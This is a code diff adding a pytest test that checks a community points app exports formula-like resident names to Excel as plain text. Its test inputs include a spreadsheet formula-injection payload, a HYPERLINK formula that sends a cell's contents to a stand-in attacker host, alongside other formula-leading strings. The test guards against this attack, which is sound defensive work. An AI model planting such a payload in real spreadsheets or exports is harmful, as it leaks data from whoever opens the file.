@@ -106,3 +106,20 @@ def test_excel_exports_read_back(world, shop, scored, client_for, url, header, f
         assert list(rows[1]) == first_row
     if "residents" in url:
         assert [r[4] for r in rows[1:]] == [40, -20] and rows[-1][5] == 20
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"点我领奖")', "+1+2", "-3+4", "@SUM(A1)",
+                                  "\t=1+1", "\r=1+1"])
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(world, shop, scored, client_for, name):
+    # given a resident whose name starts like a formula, ranked in the period
+    world.neighbour.name = name
+    world.neighbour.save()
+    # when the rankings are exported
+    response = client_for("community_secretary").get("/points/reports/rankings/?format=xlsx")
+    # then the cell reads back as that text, a string and not a formula
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
+    # (XML keeps a leading carriage return as a line feed; the text is otherwise as typed)
+    cell = next(c for c in cells if c.value and c.value.replace("\n", "\r") == name.replace("\n", "\r"))
+    assert cell.data_type == "s" and cell.quotePrefix
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
